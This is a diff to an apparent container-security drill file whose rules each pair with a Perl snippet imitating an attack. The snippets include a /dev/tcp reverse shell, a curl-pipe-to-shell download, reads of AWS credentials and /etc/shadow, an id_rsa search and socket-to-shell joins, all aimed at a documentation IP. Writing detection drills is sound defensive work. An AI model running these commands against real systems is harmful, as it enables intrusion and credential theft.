@@ -19,6 +19,9 @@ export interface Act {
 }
 
 const SHELL = "'/bin/sh', '-c'";
+/** What the interpreter does under the name of a shell, and of a download program. */
+const JOINS = 'socket(my $s, 2, 1, 6); open(STDIN, q(<&), $s); open(STDOUT, q(>&), $s)';
+const CONNECTS = 'socket(my $s, 2, 2, 17); connect($s, pack(q(S n C4 x8), 2, 9, 192, 0, 2, 1))';
 
 export const ACTS: readonly Act[] = [
   { rule: 'Terminal opened in a container', terminal: true },
@@ -31,7 +34,8 @@ export const ACTS: readonly Act[] = [
   { rule: 'Memory of the host opened from a container', perl: "look '/dev/mem'" },
   { rule: 'Container engine addressed from a container', perl: "reach_path '/run/docker.sock'" },
   { rule: 'Cloud metadata service contacted from a container', perl: 'reach 169, 254, 169, 254, 80' },
-  { rule: 'Shell turned over to the network', perl: `run ${SHELL}, 'true', '/dev/tcp/192.0.2.1/9'` },
+  { rule: 'Shell turned over to the network', perl: `run ${SHELL}, ': "sh -i >& /dev/tcp/192.0.2.1/9 0>&1"'` },
+  { rule: 'Shell without a terminal waits for orders', perl: "open(STDIN, '<', '/dev/null'); run '/bin/sh', '-i'" },
   { rule: 'Crypto miner started', perl: "run '/usr/bin/xmrig'", programs: ['/usr/bin/xmrig'] },
   { rule: 'Start-up file changed in a container', perl: "mkdir '/etc/profile.d'; make '/etc/profile.d/drill.sh'" },
   {
@@ -46,6 +50,16 @@ export const ACTS: readonly Act[] = [
     perl: `run ${SHELL}, 'read x < /root/.aws/credentials'`,
     files: ['/root/.aws/credentials'],
   },
+  {
+    rule: 'Secret file given another name',
+    perl: "symlink '/etc/shadow', '/tmp/other-name'",
+  },
+  {
+    rule: 'Keys or passwords searched for',
+    perl: "run '/usr/bin/find', '/', '-name', 'id_rsa'",
+    programs: ['/usr/bin/find'],
+  },
+  { rule: 'Environment of another process read', perl: 'my $other = getppid; look "/proc/$other/environ"' },
   { rule: 'Accounts of a container changed', perl: "make '/etc/passwd'", files: ['/etc/passwd'] },
   { rule: 'Download run at once', perl: `run ${SHELL}, ': "curl http://192.0.2.1/x | sh"'` },
   { rule: 'Namespace made or entered in a container', perl: "call 'unshare', 0x10000000" },
@@ -67,12 +81,30 @@ export const ACTS: readonly Act[] = [
   { rule: 'Kernel setting written from a container', perl: "touch '/proc/sys/net/ipv4/ip_forward'" },
   { rule: 'Control group written from a container', perl: "touch '/sys/fs/cgroup/cgroup.procs'" },
   { rule: 'Memory of another process opened in a container', perl: "look '/proc/1/mem'" },
+  { rule: 'Root folder changed in a container', perl: "call 'chroot', '/proc/1/root'" },
+  { rule: 'Whole machine addressed from a container', perl: "call 'swapon', '/nothing', 0" },
+  {
+    rule: 'Program started through its loader',
+    perl: "run '/lib/ld-linux-drill', '/bin/true'",
+    programs: ['/lib/ld-linux-drill'],
+  },
   {
     rule: 'Surroundings explored in a container',
     perl: 'run "/usr/bin/$_" for qw(whoami id uname hostname ps)',
     programs: ['whoami', 'id', 'uname', 'hostname', 'ps'].map((name) => `/usr/bin/${name}`),
   },
   { rule: 'Network scanned from a container', perl: 'reach 192, 0, 2, $_, 9 for 1 .. 30' },
+  {
+    rule: 'Download handed to a shell',
+    perl: `open(STDIN, '<', '/dev/null'); run '/bin/sh'; run '/usr/bin/curl', '-e', '${CONNECTS}'`,
+  },
+  { rule: 'Ports of a host scanned from a container', perl: 'reach_tcp 192, 0, 2, 1, $_ for 1 .. 30' },
+  { rule: 'Connection joined to a shell', perl: `run '/bin/bash', '-e', '${JOINS}'` },
+  {
+    rule: 'Named pipe joined with a network program',
+    perl: "run '/usr/bin/mkfifo', '/tmp/pipe'; run '/usr/bin/telnet', '192.0.2.1'",
+    programs: ['/usr/bin/mkfifo', '/usr/bin/telnet'],
+  },
   {
     rule: 'Login after many failed ones',
     perl: "make '/var/log/btmp' for 1 .. 6; make '/var/log/wtmp'",
@@ -97,6 +129,12 @@ sub copy { open(my $f, '>:raw', $_[1]) or return; print $f bytes_of($_[0]); clos
 sub reach {
   my ($a, $b, $c, $d, $port) = @_;
   socket(my $s, 2, 2, 17) or return;
+  connect($s, pack('S n C4 x8', 2, $port, $a, $b, $c, $d));
+}
+sub reach_tcp {
+  my ($a, $b, $c, $d, $port) = @_;
+  socket(my $s, 2, 1, 6) or return;
+  fcntl($s, 4, 2048);
   connect($s, pack('S n C4 x8', 2, $port, $a, $b, $c, $d));
 }
 sub reach_path { socket(my $s, 1, 1, 0) or return; connect($s, pack('S a*', 1, "$_[0]\\0")) }
